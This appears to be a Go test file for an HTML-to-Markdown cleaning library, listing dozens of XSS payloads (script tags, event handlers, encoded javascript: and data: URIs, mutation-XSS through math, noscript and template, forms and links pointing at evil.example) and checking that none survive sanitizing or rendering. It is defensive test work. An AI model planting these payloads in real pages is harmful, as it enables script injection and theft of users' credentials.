package structure

import (
	"bytes"
	"context"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/winnowtext/winnow/clean"
)

// cleaner makes structure of whatever it is given.
var cleaner = func() *clean.Cleaner {
	c, err := clean.New(clean.Options{Structure: true, Comments: true})
	if err != nil {
		panic(err)
	}
	return c
}()

var base, _ = url.Parse("https://isle.example/sea/row.html")

func fragment(t testing.TB, page string) *clean.Result {
	t.Helper()
	res, err := cleaner.Clean(context.Background(), clean.Input{Body: strings.NewReader(page), URL: base, Format: clean.FromHTML, Fragment: true})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// attacks try to get something through that runs, submits or loads.
var attacks = []string{
	`<p>one<script>steal()</script> two</p>`,
	`<p onclick="steal()" onmouseover=steal()>one</p>`,
	`<img src=x onerror=steal()>`,
	`<p><img src="javascript:steal()" alt="two"></p>`,
	`<a href="javascript:steal()">one</a>`,
	`<a href="JaVaScRiPt:steal()">one</a>`,
	`<a href=" &#x20;java&#x0A;script:steal()">one</a>`,
	`<a href="java&#9;script:steal()">one</a>`,
	`<a href="&#1;javascript:steal()">one</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;steal()">one</a>`,
	`<a href="vbscript:steal()">one</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">one</a>`,
	`<a href="feed:javascript:steal()">one</a>`,
	`<a href="view-source:javascript:steal()">one</a>`,
	`<a href="//evil.example/%0ajavascript:steal()">one</a>`,
	`<a href="http://ok.example/&quot; onclick=&quot;steal()">one</a>`,
	`<img src='http://ok.example/"onerror="steal()'>`,
	`<img alt='"><script>steal()</script>' src=a.png>`,
	`<iframe src="javascript:steal()"></iframe><p>one</p>`,
	`<iframe src="https://www.youtube.com/embed/&quot;onload=&quot;steal()"></iframe><p>one</p>`,
	`<iframe srcdoc="<script>steal()</script>"></iframe><p>one</p>`,
	`<video src="javascript:steal()" onerror=steal()><source src="javascript:steal()"></video><p>one</p>`,
	`<object data="javascript:steal()"></object><embed src="data:text/html,steal()"><p>one</p>`,
	`<form action="//evil.example"><input name=password><button formaction="javascript:steal()">one</button></form>`,
	`<ul><li><input type=checkbox onfocus=steal() autofocus checked> one</li></ul>`,
	`<svg onload=steal()><a xlink:href="javascript:steal()"><text>one</text></a></svg><p>two</p>`,
	`<math><mi xlink:href="javascript:steal()">one</mi><annotation encoding="application/x-tex"><script>steal()</script>x</annotation></math>`,
	`<math href="javascript:steal()"><mtext><img src=x onerror=steal()></mtext></math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=steal()></annotation-xml><mi>y</mi></math>`,
	`<math alttext='"><img src=x onerror=steal()>'><mi>y</mi></math>`,
	`<span class=katex><annotation encoding="application/x-tex">&lt;/annotation>&lt;img src=x onerror=steal()></annotation><span>y</span></span>`,
	`<script type="math/tex">&lt;/script><img src=x onerror=steal()></script><p>one</p>`,
	`<style>p{background:url(javascript:steal())}</style><p style="background:url(javascript:steal())">one</p>`,
	`<link rel=stylesheet href="//evil.example"><meta http-equiv=refresh content="0;url=javascript:steal()"><base href="//evil.example/"><p>one <a href=two>three</a></p>`,
	`<pre class='language-"onload="steal()'><code class='language-js"onx="'>one</code></pre>`,
	`<pre data-lang='"><script>steal()</script>'>one</pre>`,
	`<blockquote cite="javascript:steal()" data-callout='"onload="steal()'>one</blockquote>`,
	`<ol start='1"onload="steal()'><li value="javascript:1">one</li></ol>`,
	`<table background="javascript:steal()"><tr><td colspan='2"onload=steal()' background="javascript:steal()">one<td>two</table>`,
	`<p>one \(x&lt;img src=x onerror=steal()>\) \[&lt;script>steal()&lt;/script>\] $$[two](javascript:steal())$$</p>`,
	`<p>one <math alttext="<img src=x onerror=steal()>"><mi>y</mi></math> <math display=block alttext="x$<script>steal()</script>[two](javascript:steal())"></math></p>`,
	`<span class=katex><annotation encoding="application/x-tex">x&lt;iframe srcdoc=steal()>\&lt;img src=x onerror=steal()>[one](javascript:steal())\</annotation><span>y</span></span>`,
	`<p id="fnref:1" class="footnote-ref" onclick=steal()>one<sup><a href="#n&quot;onclick=&quot;steal()">1</a></sup></p><p id='n"onclick="steal()'>two</p>`,
	`<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript><p>one</p>`,
	`<template><script>steal()</script></template><p>one</p>`,
	`<textarea><img src=x onerror=steal()></textarea><p>one</p>`,
	`<title><img src=x onerror=steal()></title><xmp><img src=x onerror=steal()></xmp>`,
	`<p>&lt;script>steal()&lt;/script> and &lt;img src=x onerror=steal()></p>`,
	`<pre>&lt;/code>&lt;/pre>&lt;script>steal()&lt;/script></pre>`,
	`<p>[one](javascript:steal()) ![two](javascript:steal()) &lt;javascript:steal()> [three]: javascript:steal()</p>`,
	`<p>` + "`one`" + ` &lt;a href="javascript:steal()">two&lt;/a></p>`,
	`<a href="https://ok.example/)](javascript:steal())">[one](javascript:steal())</a>`,
	`<img src="https://ok.example/a.png" alt="](javascript:steal()) &lt;script>">`,
	`<p>one<br>&lt;script>steal()<br>&lt;/script></p>`,
	`<details ontoggle=steal() open><summary>&lt;script>steal()&lt;/script></summary>one</details>`,
	`<table><tr><th>a<th>b<tr><td colspan=2>&lt;script>steal()&lt;/script></table>`,
	`<ruby>one<rt onclick=steal()>two</rt></ruby>`,
	`<portal src="javascript:steal()"></portal><x-a onclick=steal()>one</x-a><marquee onstart=steal()>two</marquee>`,
	`<a href="https://ok.example/" target=_blank ping="//evil.example" download>one</a>`,
	`<img src="https://ok.example/a.png" srcset="javascript:steal() 2x" usemap="#m" longdesc="javascript:steal()">`,
	`<img data-src="javascript:steal()" src="data:image/svg+xml,<svg onload=steal()>">`,
	`<p><noscript><img src="javascript:steal()"></noscript><img src="data:image/gif;base64,AA"></p>`,
}

// schemes are those that an address may have.
var schemes = map[string]bool{"": true, "http": true, "https": true, "mailto": true}

// checkSafe reports what HTML holds that it may not.
func checkSafe(t testing.TB, what, page string) {
	t.Helper()
	if again := Policy().Sanitize(page); !same(t, again, page) {
		t.Errorf("%s: a policy takes something away\n%s\nleaves\n%s", what, page, again)
	}
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" {
				t.Errorf("%s: attribute %s", what, a.Key)
			}
			if a.Key == "href" || a.Key == "src" || a.Key == "cite" {
				u, err := url.Parse(a.Val)
				if err != nil && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") {
					t.Errorf("%s: %s %q: %v", what, a.Key, a.Val, err)
				} else if err == nil && !schemes[u.Scheme] {
					t.Errorf("%s: %s %q", what, a.Key, a.Val)
				}
			}
		}
		switch n.DataAtom {
		case atom.Script, atom.Style, atom.Iframe, atom.Form, atom.Object, atom.Embed, atom.Link, atom.Meta, atom.Base, atom.Svg:
			t.Errorf("%s: element %s", what, n.Data)
		}
	}
}

// same reports whether two pages have the same tree.
func same(t testing.TB, a, b string) bool {
	t.Helper()
	var out [2]strings.Builder
	for i, page := range []string{a, b} {
		doc, err := html.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		html.Render(&out[i], doc)
	}
	return out[0].String() == out[1].String()
}

// TestSafety: nothing gets through that runs, submits or loads by itself, in HTML and
// in what a reader makes of the Markdown.
func TestSafety(t *testing.T) {
	for _, page := range attacks {
		for _, in := range []string{page, "<p>Before it.</p>" + page + "<p>Behind it.</p>", "<ul><li>" + page + "</ul>", "<blockquote>" + page + "</blockquote>",
			"<table><tr><th>a<th>b<tr><td>" + page + "<td>c</table>", "<a href=/x>" + page + "</a>", "<h2>" + page + "</h2>", "<pre>" + page + "</pre>"} {
			res := fragment(t, in)
			check(t, in, res)
			md, err := Rendered(res.Markdown())
			if err != nil {
				t.Fatal(err)
			}
			checkActive(t, in, md)
			// Not every reader knows formulas.
			var plain bytes.Buffer
			if err := reader.Convert([]byte(res.Markdown()), &plain); err != nil {
				t.Fatal(err)
			}
			checkActive(t, in, plain.String())
		}
	}
}

// checkActive is checkSafe for the HTML of a reader, who has elements and attributes
// of his own.
func checkActive(t testing.TB, what, page string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		switch n.DataAtom {
		case atom.Script, atom.Style, atom.Iframe, atom.Form, atom.Object, atom.Embed, atom.Link, atom.Meta, atom.Base, atom.Svg:
			t.Errorf("%s: Markdown makes an element %s\n%s", what, n.Data, page)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" {
				t.Errorf("%s: Markdown makes an attribute %s\n%s", what, a.Key, page)
			}
			if a.Key == "href" || a.Key == "src" {
				if u, err := url.Parse(a.Val); err == nil && !schemes[u.Scheme] {
					t.Errorf("%s: Markdown makes an address %q", what, a.Val)
				}
			}
		}
	}
}
